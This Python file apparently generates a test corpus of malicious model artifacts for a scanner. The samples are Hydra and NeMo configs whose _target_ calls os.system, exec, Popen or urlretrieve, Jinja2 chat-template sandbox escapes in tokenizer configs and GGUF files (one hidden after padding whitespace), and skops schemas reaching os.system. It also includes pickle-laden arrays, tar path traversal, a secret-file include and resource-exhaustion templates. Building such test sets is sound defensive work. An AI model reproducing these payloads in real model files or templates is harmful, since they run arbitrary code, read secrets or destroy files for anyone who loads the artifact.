"""The third blind set: Hydra and NeMo configurations, templates of tokenizers, skops."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import CODE, COMMANDS, HOST, SECRET, VICTIM, Sample, as_json, call, dumps, tarred, zipped

EVIL = call("os:system", COMMANDS[0])
SH = COMMANDS[0]
Files = dict[str, bytes]
Row = tuple[str, Files, str, str]
RUN = CODE[0].encode() + b"\n"


def _hydra() -> Iterator[tuple[str, Files, str, str]]:
    load = "from omegaconf import OmegaConf; from hydra.utils import instantiate; instantiate(OmegaConf.load(f))"
    texts = {
        "os-system": "model:\n  _target_: os.system\n  command: touch /tmp/x\n",
        "exec": "optim:\n  _target_: builtins.exec\n  _args_: [\"import os; os.system('touch /tmp/x')\"]\n",
        "popen": "trainer:\n  _target_: subprocess.Popen\n  args: [touch, /tmp/x]\n  _convert_: all\n",
        "partial-map": "a:\n  _target_: builtins.list\n  _args_:\n    - _target_: builtins.map\n      _args_:\n        - _target_: hydra.utils.get_method\n          path: os.system\n        - [touch /tmp/x]\n",
        "interpolated": "who: os\nwhat: system\ncall:\n  _target_: ${who}.${what}\n  command: touch /tmp/x\n",
        "runpy": "dataset:\n  _target_: runpy.run_path\n  path_name: /tmp/s/prepare.py\n",
        "torch-load": "w:\n  _target_: torch.load\n  f: /tmp/s/w.pt\n  weights_only: false\n",
        "pandas": "w:\n  _target_: pandas.read_pickle\n  filepath_or_buffer: /tmp/s/w.pt\n",
        "nested-list": "callbacks:\n  - monitor: loss\n  - {a: {b: [{_target_: pty.spawn, argv: [touch, /tmp/x]}]}}\n",
    }
    beside = {"runpy": {"prepare.py": RUN}, "torch-load": {"w.pt": dumps(EVIL, 2)}, "pandas": {"w.pt": dumps(EVIL, 2)}}
    for name, text in texts.items():
        yield name, {"config.yaml": text.encode(), **beside.get(name, {})}, load, "code"
    yield "unlink", {"conf.yaml": f"x:\n  _target_: os.unlink\n  path: {VICTIM}\n".encode()}, load, "file"
    yield (
        "urlretrieve",
        {"conf.yaml": f"x:\n  _target_: urllib.request.urlretrieve\n  url: http://{HOST}/a\n".encode()},
        load,
        "network",
    )
    yaml = "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: os.system\n  command: touch /tmp/x\n"
    unpack = "import tarfile; from omegaconf import OmegaConf; from hydra.utils import instantiate; tarfile.open(f).extractall('/tmp/s/m'); instantiate(OmegaConf.load('/tmp/s/m/model_config.yaml'))"
    yield (
        "nemo",
        {"asr.nemo": tarred({"./model_config.yaml": yaml.encode(), "./model_weights.ckpt": b""})},
        unpack,
        "code",
    )
    yield "nemo-gzip", {"asr.nemo": tarred({"model_config.yaml": yaml.encode()}, "w:gz")}, unpack, "code"
    weights = "import tarfile, torch; tarfile.open(f).extractall('/tmp/s/m'); torch.load('/tmp/s/m/model_weights.ckpt', weights_only=False)"
    yield (
        "nemo-weights",
        {"tts.nemo": tarred({"model_config.yaml": b"target: x\n", "model_weights.ckpt": dumps({"a": EVIL}, 2)})},
        weights,
        "code",
    )
    yield (
        "nemo-artifact",
        {"nlp.nemo": tarred({"model_config.yaml": b"tokenizer:\n  vocab: nemo:t.pkl\n", "t.pkl": dumps(EVIL, 4)})},
        "import tarfile, pickle; pickle.load(tarfile.open(f).extractfile('t.pkl'))",
        "code",
    )
    yield (
        "nemo-slip",
        {"slip.nemo": tarred({"../victim/keep.txt": b"pwned", "model_config.yaml": b"target: x\n"})},
        "import tarfile, os; os.makedirs('/tmp/s/m'); os.chdir('/tmp/s'); os.rename('/tmp/s/m', '/tmp/m') if not os.path.exists('/tmp/m') else 0; tarfile.open(f).extractall('/tmp/m', filter='fully_trusted')",
        "file",
    )


TEMPLATES = {
    "cycler": "{{ cycler.__init__.__globals__.os.popen('touch /tmp/x').read() }}",
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch', '/tmp/x']).wait() }}{% endif %}{% endfor %}",
    "attr-filter": "{{ (namespace|attr('__init__')|attr('__globals__')).os.system('touch /tmp/x') }}",
    "escaped": "{% set a = '\\x5f\\x5fglobals\\x5f\\x5f' %}{{ (lipsum|attr(a))['os']['system']('touch /tmp/x') }}",
    "joined": "{{ lipsum[['__glo', 'bals__']|join].os.popen('touch /tmp/x').read() }}",
    "self": "{{ self.__init__.__globals__.__builtins__.exec(\"import os; os.system('touch /tmp/x')\") }}",
    "format": "{{ lipsum['%c%cglobals%c%c'|format(95, 95, 95, 95)]['os'].system('touch /tmp/x') }}",
    "import-os": "{{ joiner.__init__.__globals__.__builtins__.__import__('subprocess').check_output(['touch', '/tmp/x']) }}",
    "map-attribute": "{{ [cycler]|map(attribute='__init__.__globals__.os')|map(attribute='system')|first }}{{ ([cycler]|map(attribute='__init__.__globals__.os')|first).system('touch /tmp/x') }}",
}


def gguf(template: str, key: str = "tokenizer.chat_template") -> bytes:
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    pairs = {"general.architecture": "llama", "general.name": "chat-7b", key: template}
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs))
    return head + b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in pairs.items())


def _templates() -> Iterator[Row]:
    render = ".render(messages=[], bos_token='', eos_token='')"
    plain = "import json, jinja2; jinja2.Environment().from_string(json.load(open(f))['chat_template'])" + render
    honest = "{% for m in messages %}{{ m.role + ': ' + m.content }}{% endfor %}"
    reader = (
        "import gguf, jinja2; r = gguf.GGUFReader(f); t = bytes(r.fields['KEY'].parts[-1]).decode(); jinja2.Environment().from_string(t)"
        + render
    )
    for number, (name, source) in enumerate(TEMPLATES.items()):
        if number % 2:
            key = "tokenizer.chat_template" if number % 4 == 1 else "tokenizer.chat_template.tool_use"
            yield f"gguf-{name}", {"chat-7b.Q4.gguf": gguf(honest + source, key)}, reader.replace("KEY", key), "code"
        else:
            yield name, {"tokenizer_config.json": as_json({"chat_template": honest + source})}, plain, "code"
    yield (
        "gguf-inside-comment",
        {"m.gguf": gguf("{# safe #}" + honest + " " * 3000 + TEMPLATES["cycler"])},
        reader.replace("KEY", "tokenizer.chat_template"),
        "code",
    )
    yield (
        "jinja-file",
        {"chat_template.jinja": (honest + TEMPLATES["subclasses"]).encode()},
        "import jinja2; jinja2.Environment().from_string(open(f).read())" + render,
        "code",
    )
    yield (
        "named-list",
        {
            "tokenizer_config.json": as_json(
                {
                    "chat_template": [
                        {"name": "default", "template": honest},
                        {"name": "rag", "template": TEMPLATES["cycler"]},
                    ]
                }
            )
        },
        "import json, jinja2; jinja2.Environment().from_string(json.load(open(f))['chat_template'][1]['template'])"
        + render,
        "code",
    )
    yield "processor", {"chat_template.json": as_json({"chat_template": TEMPLATES["joined"]})}, plain, "code"
    box = (
        "import json; from jinja2.sandbox import ImmutableSandboxedEnvironment as E; E().from_string(json.load(open(f))['chat_template'])"
        + render
    )
    yield (
        "endless",
        {
            "tokenizer_config.json": as_json(
                {
                    "chat_template": "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}"
                }
            )
        },
        box,
        "crash",
    )
    yield (
        "doubling",
        {
            "tokenizer_config.json": as_json(
                {
                    "chat_template": "{% set ns = namespace(a='aaaaaaaa') %}{% for i in range(60) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}"
                }
            )
        },
        box,
        "crash",
    )
    yield (
        "include",
        {"tokenizer_config.json": as_json({"chat_template": "{% include '" + SECRET[1:] + "' %}"})},
        "import json, jinja2; jinja2.Environment(loader=jinja2.FileSystemLoader('/')).from_string(json.load(open(f))['chat_template'])"
        + render,
        "file",
    )
    yield (
        "center",
        {"m.gguf": gguf("{{ 'a'|center(9000000000) }}")},
        reader.replace("KEY", "tokenizer.chat_template"),
        "crash",
    )


def skops(node: dict[str, object], more: Files | None = None, version: str = "0.16.0") -> bytes:
    return zipped({"schema.json": as_json({**node, "protocol": 2, "_skops_version": version}), **(more or {})})


def _node(module: str, name: str, loader: str, **rest: object) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **rest}


def _json(value: str) -> dict[str, object]:
    return _node("builtins", "str", "JsonNode", content=value, is_json=True)


def _skops() -> Iterator[Row]:
    load = "import skops.io as s; s.load(f, trusted=s.get_untrusted_types(file=f))"
    one = _node("builtins", "tuple", "TupleNode", content=[_json('"touch /tmp/x"')])
    reduce = _node("os", "system", "ConstructorFromReduceNode", content=one)
    yield "reduce", {"m.skops": skops(reduce)}, load, "code"
    lists = _node(
        "builtins",
        "list",
        "ListNode",
        content=[
            _json("1"),
            _node(
                "builtins",
                "exec",
                "ConstructorFromReduceNode",
                content=_node("builtins", "tuple", "TupleNode", content=[_json("\"open('/tmp/x', 'w')\"")]),
            ),
        ],
    )
    yield "reduce-in-a-list", {"m.skops": skops(lists)}, load, "code"
    empty = _node(
        "builtins", "dict", "DictNode", content={}, key_types=_node("builtins", "list", "ListNode", content=[])
    )
    partial = _node(
        "functools",
        "partial",
        "PartialNode",
        content={"func": _node("os", "system", "FunctionNode"), "args": one, "kwds": empty, "namespace": empty},
    )
    yield "partial", {"m.skops": skops(partial)}, load + "()", "code"
    caller = _node("operator", "methodcaller", "OperatorFuncNode", attrs=one)
    del caller
    method = _node(
        "builtins",
        "str",
        "MethodNode",
        content={
            "obj": _node("sklearn.linear_model._base", "LinearRegression", "ObjectNode", content=None),
            "func": "__init__",
        },
    )
    del method
    call_it = _node(
        "operator",
        "call",
        "OperatorFuncNode",
        attrs=_node(
            "builtins", "tuple", "TupleNode", content=[_node("os", "system", "TypeNode"), _json('"touch /tmp/x"')]
        ),
    )
    yield "operator-call", {"m.skops": skops(call_it, version="0.11.0")}, load, "code"
    state = _node(
        "scipy.stats._continuous_distns",
        "norm_gen",
        "ObjectNode",
        content=_node(
            "builtins",
            "dict",
            "DictNode",
            content={"_parse_arg_template": _json("\"import os; os.system('touch /tmp/x')\"")},
            key_types=_node("builtins", "list", "ListNode", content=[_node("builtins", "str", "TypeNode")]),
        ),
    )
    yield "state", {"m.skops": skops(state)}, load, "code"
    imported = _node("evil_module", "thing", "TypeNode")
    yield (
        "import",
        {"m.skops": skops(imported), "evil_module.py": RUN + b"thing = int\n"},
        "import sys; sys.path.insert(0, '/tmp/s'); " + load,
        "code",
    )
    keys = _node(
        "builtins",
        "dict",
        "DictNode",
        content={"touch /tmp/x": _json("1")},
        key_types=_node("builtins", "list", "ListNode", content=[_node("os", "system", "TypeNode")]),
    )
    yield "key-type", {"m.skops": skops(keys)}, load, "code"
    array = _node("numpy", "ndarray", "NdArrayNode", type="numpy", file="a.npy")
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    yield (
        "object-array",
        {
            "m.skops": skops(
                array,
                {"a.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head) + 1) + head + b"\n" + dumps(EVIL, 2)},
            )
        },
        "import zipfile, io, numpy; numpy.load(io.BytesIO(zipfile.ZipFile(f).read('a.npy')), allow_pickle=True)",
        "code",
    )


def samples() -> Iterator[Sample]:
    """Configurations that name what is called, templates that are run, and skops."""
    for name, files, loader, effect in _hydra():
        more = name in ("torch-load", "pandas", "nemo-weights")
        yield Sample(f"hydra/{name}", files, loader, effect, "hydra+main" if more else "hydra")
    for family, rows in (("template", _templates()), ("skops", _skops())):
        for name, files, loader, effect in rows:
            yield Sample(
                f"{family}/{name}", files, loader, effect, "skops11+main" if name == "operator-call" else "main"
            )
